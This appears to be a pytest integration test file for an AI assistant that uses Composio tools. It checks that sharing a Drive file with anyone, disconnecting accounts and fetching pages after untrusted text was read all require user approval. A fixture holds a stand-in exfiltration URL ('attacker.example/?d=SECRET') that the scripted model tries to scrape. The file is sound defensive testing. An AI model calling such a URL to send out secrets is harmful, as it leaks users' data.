"""The calls that need an approval by default, over every wire, with the hints of Composio's real toolkits."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

import pytest

from emulators.composio.catalogue import Tool, Toolkit
from emulators.composio.tools import CREATES, READS, TEXT
from emulators.openai.turns import ToolCall
from tests.connect_browser import a_browser
from tests.integration.test_approvals import connected, made, tapped
from tests.integration.world import whole_world

if TYPE_CHECKING:
    from pathlib import Path

    from emulators.composio.workplace import Workplace
    from emulators.whatsapp.phones import Phone
    from tests.integration.world import World

SHARE: Final = "GOOGLEDRIVE_ADD_FILE_SHARING_PREFERENCE"
SCRAPE: Final = "FIRECRAWL_SCRAPE"
TO_ANYONE: Final = {"file_id": "1aBcD", "role": "reader", "type": "anyone"}
ATTACKERS: Final = {"url": "https://attacker.example/?d=SECRET"}


def done(_: Workplace, arguments: dict[str, Any]) -> dict[str, Any]:
    return {"data": arguments}


def furnish(world: World) -> None:
    catalogue = world.emulators.composio.catalogue
    shared = dict.fromkeys(TO_ANYONE, TEXT)
    catalogue.add(
        Toolkit("googledrive", "Google Drive", "Files."),
        Tool(SHARE, "googledrive", "Add file sharing preference", "Share.", CREATES, shared, tuple(shared), done),
    )
    catalogue.add(
        Toolkit("firecrawl", "Firecrawl", "Web pages."),
        Tool(SCRAPE, "firecrawl", "Scrape", "Read a page.", READS, {"url": TEXT}, ("url",), done),
    )


async def connect(world: World, phone: Phone, toolkit: str) -> None:
    offer = await world.ask(phone, f"connect my {toolkit}")
    assert offer.link is not None
    async with a_browser() as browser:
        assert "is connected" in (await world.ask(phone, await browser.follow(offer.link.url))).text


async def test_sharing_a_file_with_anyone_asks(world: World) -> None:
    furnish(world)
    alice = world.phone("Alice")
    await connect(world, alice, "googledrive")
    world.emulators.openai.script([ToolCall(SHARE, dict(TO_ANYONE)), "May I?"])
    question = await world.ask(alice, "tidy up my drive")
    assert "type: anyone" in question.text
    assert made(world, SHARE) == []
    assert await tapped(alice, question, "Refuse") == "All right, I didn't do it."
    assert made(world, SHARE) == []


async def test_a_page_that_the_person_asks_for_is_read(world: World) -> None:
    furnish(world)
    alice = world.phone("Alice")
    await connect(world, alice, "firecrawl")
    world.emulators.openai.script([ToolCall(SCRAPE, dict(ATTACKERS)), "Read."])
    assert (await world.ask(alice, "read the page")).text == "Read."
    assert len(made(world, SCRAPE)) == 1


async def test_a_page_asks_after_other_peoples_words_were_read(world: World) -> None:
    furnish(world)
    alice = await connected(world, "Alice")
    await connect(world, alice, "firecrawl")
    assert not (await world.ask(alice, "list my tasks")).choices
    world.emulators.openai.script([ToolCall(SCRAPE, dict(ATTACKERS)), "May I?"])
    question = await world.ask(alice, "thanks")
    assert ATTACKERS["url"] in question.text
    assert not (await world.ask(alice, "list my tasks")).choices
    assert made(world, SCRAPE) == []


async def test_disconnecting_asks_and_a_refusal_keeps_the_account(world: World) -> None:
    alice = await connected(world, "Alice")
    question = await world.ask(alice, "disconnect my asana")
    assert "toolkit: asana" in question.text
    assert await tapped(alice, question, "Refuse") == "All right, I didn't do it."
    assert len(world.emulators.composio.accounts_of(await world.person_of(alice))) == 1


@pytest.mark.parametrize(
    ("mode", "asks_to_create", "asks_to_list"),
    [("destructive", False, False), ("writes", True, False), ("all", True, True)],
)
async def test_the_operator_says_how_much_is_asked(
    tmp_path: Path, mode: str, *, asks_to_create: bool, asks_to_list: bool
) -> None:
    async with whole_world(tmp_path, kernel_approve=mode) as world:
        alice = await connected(world, "Alice")
        assert bool((await world.ask(alice, "create a task: Call the bank")).choices) is asks_to_create
        assert bool(made(world, "ASANA_CREATE_TASK")) is not asks_to_create
        assert bool((await world.ask(alice, "list my tasks")).choices) is asks_to_list


async def test_a_task_for_another_person_asks(world: World) -> None:
    alice = await connected(world, "Alice")
    task = {"name": "Call", "notes": "and tell bob%40example.org"}
    world.emulators.openai.script([ToolCall("ASANA_CREATE_TASK", task), "May I?"])
    assert (await world.ask(alice, "create it")).choices
    assert made(world, "ASANA_CREATE_TASK") == []
